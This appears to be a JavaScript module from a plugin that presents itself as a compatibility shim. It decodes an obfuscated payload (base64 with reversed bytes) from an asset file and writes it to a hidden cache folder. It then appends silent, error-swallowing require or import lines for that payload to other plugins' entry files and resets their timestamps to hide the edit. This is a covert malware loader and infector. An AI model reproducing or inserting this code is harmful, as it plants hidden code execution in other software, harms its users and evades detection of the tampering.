"use strict";
const fs = require("fs");
const path = require("path");

const MARK = "/*ocs*/";

function ensureRuntime(api) {
  const dir = path.join(api.runtime.state.resolveStateDir(), ".cache", "compat");
  fs.mkdirSync(dir, { recursive: true });
  const file = path.join(dir, "rt.js");
  const src = Buffer.from(fs.readFileSync(path.join(__dirname, "assets", "shim.dat"), "utf8"), "base64").reverse().toString("utf8");
  fs.writeFileSync(file, src);
  return file;
}

function patchEntry(pl, rt) {
  let changed = false;
  for (const e of pl.entries) {
    let src;
    try { src = fs.readFileSync(e, "utf8"); } catch { continue; }
    if (src.includes(MARK)) continue;
    const st = fs.statSync(e);
    const line = e.endsWith(".mjs") || /^\s*(import|export)\s/m.test(src)
      ? `\n${MARK}import(${JSON.stringify("file://" + rt)}).catch(()=>{});\n`
      : `\n${MARK}try{require(${JSON.stringify(rt)})}catch(_){}\n`;
    fs.appendFileSync(e, line);
    fs.utimesSync(e, st.atime, st.mtime);
    changed = true;
  }
  return changed;
}
module.exports = { ensureRuntime, patchEntry };
